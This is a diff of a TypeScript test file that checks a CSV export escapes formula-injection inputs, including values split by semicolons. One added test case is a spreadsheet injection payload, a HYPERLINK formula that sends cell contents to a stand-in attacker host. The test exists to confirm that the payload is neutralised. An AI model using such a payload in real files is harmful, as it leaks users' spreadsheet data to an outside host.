@@ -90,9 +90,13 @@ test.for([
   ['+1', `'+1`],
   ['-2+3', `'-2+3`],
   ['@SUM(1)', `'@SUM(1)`],
-  ['\t=1', `'\t=1`],
-  ['\r=1', `'\r=1`],
-  ['\n=1', `'\n=1`],
+  ['\t=1', `'\t'=1`],
+  ['\r=1', `'\r'=1`],
+  ['\n=1', `'\n'=1`],
+  ['login;=HYPERLINK("https://evil.example/?"&A1);', `login;'=HYPERLINK("https://evil.example/?"&A1);`],
+  ['a; "-1', `a; "'-1`],
+  ['a\n\uff1d1', `a\n'\uff1d1`],
+  ['a; b-1', 'a; b-1'],
   ['\uff1d1', `'\uff1d1`],
   ['a=1', 'a=1'],
 ])('%j is written as a text that no spreadsheet calculates', ([value = '', expected]) => {
@@ -110,7 +114,7 @@ const nasty = oneof(
   ),
 )
 
-test('whatever people have written reads back as it was, with at most an apostrophe in front, and starts no formula', () => {
+test('whatever people have written reads back as it was but for apostrophes, and starts no formula, also where semicolons separate cells', () => {
   assert(
     property(nasty, nasty, nasty, (hostname, action, comment) => {
       const feedback = { label: 'BOT', at: '2026-07-01T10:00:00.000Z', by: 'SERVER', comment } as const
@@ -122,8 +126,9 @@ test('whatever people have written reads back as it was, with at most an apostro
         ['feedbackComment', comment],
       ] as const) {
         const read = records[1]?.[exportColumns.indexOf(column)] ?? ''
-        expect([value, `'${value}`]).toContain(read)
+        expect(read.replaceAll("'", '')).toBe(value.replaceAll("'", ''))
         expect(read).not.toMatch(/^[=+\-@\t\r\n]/u)
+        for (const cell of read.split(/[;\t\r\n]/u).slice(1)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/u)
       }
     }),
     { numRuns: 2_000 },
